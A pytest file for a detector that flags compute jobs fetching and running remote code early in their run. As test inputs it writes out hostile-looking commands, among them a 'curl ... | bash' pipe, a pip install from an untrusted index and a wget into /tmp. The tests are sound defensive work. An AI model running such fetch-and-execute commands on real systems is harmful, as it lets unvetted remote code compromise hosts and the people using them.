"""D72: a start that fetches and runs."""

import pytest

from ringfence.watch.detectors import poisoned_start
from ringfence.wire.ocsf import classes
from tests.watch.events import both_ways, event, flow, job
from tests.watch.hostile import LATER, hostile

SAID = {"job__uid": "job:1", "actor__user__name": "ada", "actor__process__name": "curl", "traffic__bytes_in": 400_000}


def young(at: float):
    """A job that has just begun by then."""
    return [event(classes.JOB, 2, at - 30, "slurm1", job__uid="job:1", job__user="ada", job__hosts="gpu0001")]


def ran(at: float, command: str):
    """A program of the job."""
    return event(
        classes.PROCESS, 1, at, "gpu0001", process__cmd_line=command, process__user__name="ada", job__uid="job:1"
    )


@pytest.mark.parametrize(
    "command",
    [
        "bash -c curl -s https://11.1.1.1/a | bash",
        "pip install --index-url http://11.1.1.1/simple torch",
        "/tmp/.cache/u0 --quiet",
        "wget -q -O /tmp/x https://11.1.1.1/x",
    ],
)
def test_a_fetch_that_is_run_is_told(command: str):
    """In the first minutes."""
    found = both_ways(poisoned_start, [*young(60), ran(60, command)])
    assert [one.entities for one in found] == [("host:gpu0001", "job:1", "identity:ada")]


def test_a_fetch_from_a_place_that_nobody_uses_is_told():
    """After learning which places are used."""
    first = flow(5, "gpu0002", "11.9.9.9", **SAID)
    fetch = flow(LATER, "gpu0001", "11.1.1.1", **SAID)
    assert len(both_ways(poisoned_start, [first, *young(LATER), fetch])) == 1


def test_mirrors_old_jobs_and_honest_commands_are_silent():
    """Everybody installs from the mirror."""
    mirror = [flow(at, "gpu0002", "11.3.3.3", **(SAID | {"actor__user__name": f"u{at}"})) for at in range(1, 5)]
    later = [flow(LATER, "gpu0001", "11.3.3.3", **SAID), ran(LATER, "pip install -r requirements.txt")]
    old = [ran(LATER + 7200, "curl -s https://11.1.1.1/a | bash"), flow(LATER + 7200, "gpu0001", "11.1.1.1", **SAID)]
    assert both_ways(poisoned_start, [*mirror, *young(LATER), *later, *old], [job("job:9", "x")]) == []


def test_hostile_input_does_no_harm():
    """Odd names, numbers and times."""
    hostile(poisoned_start)
